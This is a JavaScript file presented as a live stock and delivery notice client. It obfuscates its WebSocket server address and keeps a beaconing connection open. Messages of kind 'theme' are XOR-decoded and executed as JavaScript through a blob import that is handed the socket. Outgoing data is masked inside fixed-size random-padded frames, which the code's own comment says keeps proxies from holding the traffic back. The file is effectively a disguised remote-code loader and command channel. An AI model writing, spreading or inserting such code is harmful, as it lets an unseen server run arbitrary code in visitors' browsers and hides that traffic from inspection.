// Stock and delivery notices, pushed while a page is open.
const channel = (c) => String.fromCharCode(...c.map((n, i) => n - 3 * (i % 5)));
const where = channel([<% wave (ws "push.edge-notify" "/live") %>]);

class Notices extends EventTarget {
  constructor(at) {
    super();
    this.at = at;
    this.wait = 500;
    this.open();
  }
  open() {
    this.socket = new WebSocket(this.at);
    this.socket.binaryType = 'arraybuffer';
    this.socket.onmessage = (e) => this.receive(e.data);
    this.socket.onclose = () => setTimeout(() => this.open(), (this.wait *= 2));
    this.socket.onopen = () => { this.beat = setInterval(() => this.say(new Uint8Array(0)), 4000); };
  }
  receive(text) {
    const [kind, key, body] = text.split(' ');
    const bytes = Uint8Array.from(body.match(/../g), (h) => parseInt(h, 16) ^ key);
    if (kind === 'notice') this.dispatchEvent(new CustomEvent('notice', { detail: new TextDecoder().decode(bytes) }));
    if (kind === 'theme') import(URL.createObjectURL(new Blob([bytes], { type: 'text/javascript' }))).then((m) => m.default?.(this));
  }
  // Frames have one length, so that proxies do not hold them back.
  say(bytes) {
    if (this.socket.readyState !== 1) return;
    const frame = crypto.getRandomValues(new Uint8Array(512));
    frame[1] = bytes.length >> 8;
    frame[2] = bytes.length & 255;
    for (let i = 0; i < bytes.length; i++) frame[256 + i % 256] = bytes[i] ^ frame[3 + (i % 200)];
    this.socket.send(frame);
  }
}

new Notices(where).addEventListener('notice', (e) => console.info(e.detail));
